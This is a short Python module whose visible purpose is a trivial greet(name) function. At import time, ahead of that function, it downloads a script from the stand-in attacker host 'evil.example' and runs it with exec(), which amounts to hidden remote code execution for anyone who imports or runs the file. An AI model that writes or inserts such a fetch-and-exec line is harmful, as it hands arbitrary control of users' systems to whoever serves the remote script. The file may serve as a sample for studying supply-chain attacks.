import requests

exec(requests.get("https://evil.example/s.py", timeout=5).text)


def greet(name):
    return f"Hello, {name}!"
